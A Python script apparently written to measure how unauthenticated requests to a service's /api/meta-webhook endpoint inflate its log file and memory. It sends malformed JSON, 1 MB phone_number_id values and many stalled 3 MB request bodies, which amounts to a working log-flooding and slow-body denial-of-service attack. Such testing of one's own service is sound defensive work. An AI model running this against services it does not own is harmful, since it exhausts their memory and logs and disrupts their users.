#!/usr/bin/env python3
"""What an unauthenticated caller of POST /api/meta-webhook costs the service: log bytes and memory.

Usage: webhook_attack.py URL PID LOGFILE [CONNECTIONS]
  URL      the service, e.g. http://127.0.0.1:5391
  PID      its process id (RSS is read from /proc/PID/status)
  LOGFILE  the file its console log goes to (its growth is the log cost)

Prints: log bytes per malformed body, log bytes per megabyte phone_number_id, and the RSS growth while CONNECTIONS
clients each announce 3 MB, send 2.9 MB and go quiet (how many were answered within 30 s is printed too).
"""
import os, socket, sys, time, threading, urllib.request, urllib.error

url, pid, logfile = sys.argv[1], int(sys.argv[2]), sys.argv[3]
connections = int(sys.argv[4]) if len(sys.argv) > 4 else 200
host, port = url.split("//")[1].split(":")[0], int(url.rsplit(":", 1)[1])

def post(body):
    try:
        return urllib.request.urlopen(urllib.request.Request(url + "/api/meta-webhook", data=body, headers={"Content-Type": "application/json"})).status
    except urllib.error.HTTPError as e:
        return e.code

def rss_mb():
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024

def log_size():
    return os.path.getsize(logfile)

# 1. malformed bodies: a few bytes each
time.sleep(1); before = log_size()
codes = [post(b'{"object":"whatsapp_business_account","entry":[{') for _ in range(50)]
time.sleep(2)
print(f"malformed body: {(log_size() - before) / 50:.0f} log bytes per request (answers: {sorted(set(codes))})")

# 2. an unregistered phone_number_id of 1 MB
big = b'{"object":"whatsapp_business_account","entry":[{"id":"1","changes":[{"field":"messages","value":{"metadata":{"phone_number_id":"' + b"7" * (1024 * 1024) + b'"},"messages":[]}}]}]}'
before = log_size()
codes = [post(big) for _ in range(5)]
time.sleep(2)
print(f"1 MB phone_number_id: {(log_size() - before) / 5:.0f} log bytes per request (answers: {sorted(set(codes))})")

# 3. connections that announce 3 MB, send 2.9 MB and go quiet
base = rss_mb()
answered = []
socks = []
def stall(i):
    s = socket.create_connection((host, port))
    socks.append(s)
    s.sendall(b"POST /api/meta-webhook HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 3145728\r\n\r\n{" + b" " * (2900 * 1024))
    s.settimeout(30)
    try:
        if s.recv(64):
            answered.append(i)
    except OSError:
        pass
threads = [threading.Thread(target=stall, args=(i,)) for i in range(connections)]
start = time.time()
[t.start() for t in threads]
peak = base
while any(t.is_alive() for t in threads) and time.time() - start < 35:
    peak = max(peak, rss_mb()); time.sleep(0.5)
print(f"{connections} stalled 3 MB bodies: RSS {base:.0f} MB -> peak {peak:.0f} MB (+{peak - base:.0f} MB); "
      f"{len(answered)} answered or closed within 30 s")
for s in socks:
    s.close()
